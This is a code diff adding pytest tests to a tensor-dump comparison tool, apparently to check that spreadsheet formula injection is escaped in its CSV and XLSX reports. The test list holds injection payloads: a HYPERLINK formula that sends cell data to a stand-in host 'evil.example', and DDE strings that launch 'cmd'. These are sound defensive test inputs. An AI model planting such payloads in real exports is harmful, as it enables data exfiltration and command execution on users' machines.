@@ -174,3 +174,85 @@ def test_stack_json_is_grouped_as_the_reference_writes_it_and_read_in_both_layou
                        "1": [["Torch.add.0.forward"], frames_b]}  # fmt: skip
     assert stacks_by_name(grouped) == by_name
     assert stacks_by_name(by_name) == by_name  # an older trainprobe dump
+
+
+# -- formula injection (issue #27.3) ---------------------------------------------------------
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+                 "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def _saved_dumps(tmp_path: Path) -> tuple[Path, Path]:
+    """Two real debug-level dumps of save() calls named like formulas; the tensors are negative
+    (every statistic but the Norm a negative number) and the golden's differ a little."""
+    from trainprobe.dump import PrecisionDebugger
+
+    roots = []
+    for side, shift in (("t", 0.0), ("g", 0.25)):
+        root = tmp_path / side
+        debugger = PrecisionDebugger(task="statistics", level="debug", dump_path=str(root))
+        for i, name in enumerate(FORMULA_NAMES):
+            debugger.save(-torch.arange(1.0, 5.0) - i - shift, name, save_backward=False)
+        debugger.step()
+        roots.append(root)
+    return roots[0], roots[1]
+
+
+def test_names_that_look_like_formulas_are_text_in_the_csv(tmp_path: Path) -> None:
+    target, golden = _saved_dumps(tmp_path)
+    [result] = compare_dumps(target, golden, tmp_path / "out")
+    with result.output.open(newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))
+    header, body = rows[0], rows[1:]
+    names = [row[header.index("NPU Name")] for row in body]
+    assert names == ["'" + n + ".0.debug" for n in FORMULA_NAMES]
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or float(cell) < 0, cell  # only negative numbers start with -
+    first = dict(zip(header, body[0]))
+    assert float(first["NPU max"]) == -1.0 and float(first["Bench min"]) == -4.25  # numbers stay numbers
+    assert float(first["Max diff"]) == 0.25
+
+
+def test_names_that_look_like_formulas_are_text_in_the_xlsx(tmp_path: Path) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    target, golden = _saved_dumps(tmp_path)
+    [result] = compare_dumps(target, golden, tmp_path / "out", xlsx=True)
+    ws = openpyxl.load_workbook(result.output).active
+    cells = [cell for row in ws.iter_rows() for cell in row]
+    assert cells and all(cell.data_type != "f" for cell in cells)
+    header = [c.value for c in next(ws.iter_rows(max_row=1))]
+    body = list(ws.iter_rows(min_row=2, values_only=True))
+    xml_text = ["'" + n.replace("\r", "\n") + ".0.debug" for n in FORMULA_NAMES]  # XML reads CR as LF
+    assert [row[header.index("NPU Name")] for row in body] == xml_text
+    first = dict(zip(header, body[0]))
+    assert first["NPU max"] == -1.0 and first["Bench min"] == -4.25 and first["Max diff"] == 0.25
+
+
+def test_as_text_cell_rule() -> None:
+    from trainprobe.dump.compare import as_text_cell
+
+    assert [as_text_cell(v) for v in ("=1", "+1x", "-x", "@x", "\tx", "\rx", "a=1", "")] == \
+        ["'=1", "'+1x", "'-x", "'@x", "'\tx", "'\rx", "a=1", ""]  # fmt: skip
+    assert [as_text_cell(v) for v in (-1.5, -3, "-1.5", "-2e-3", "-inf", "+inf", "nan", None, True)] == \
+        [-1.5, -3, "-1.5", "-2e-3", "-inf", "+inf", "nan", None, True]  # fmt: skip
+
+
+# -- statistics that are not numbers (issue #27.6) -------------------------------------------
+@pytest.mark.parametrize("bad", ["abc", True, [1.0], {"v": 1}])
+def test_a_statistic_that_is_not_a_number_is_an_error_naming_the_file_and_key(tmp_path: Path, bad: Any) -> None:
+    x = torch.arange(4.0)
+    good = {"Torch.relu.0.forward": {"input_args": [stats_entry(x)], "output": [stats_entry(x)]}}
+    damaged = json.loads(json.dumps(good))
+    damaged["Torch.relu.0.forward"]["input_args"][0]["Max"] = bad
+    damaged["Torch.relu.0.forward"]["output"][0]["Max"] = "nan"  # a number's text: fine
+    target = write_dump(tmp_path / "t" / "step0" / "rank0", damaged)
+    golden = write_dump(tmp_path / "g" / "step0" / "rank0", good)
+    for t, g, side in ((target, golden, "NPU"), (golden, target, "Bench")):
+        [result] = compare_dumps(t, g, tmp_path / f"out_{side}")
+        rows = table(result.output)
+        row = rows["Torch.relu.0.forward.input.0"]
+        assert row["Result"] == "error"
+        assert f"{side} {target / 'dump.json'}: Max is not a number ({bad!r}" in row["Err_message"]
+        assert row["Max diff"] == "N/A" and row["Min diff"] == "0.0"
+        assert "not a number" not in rows["Torch.relu.0.forward.output.0"]["Err_message"]
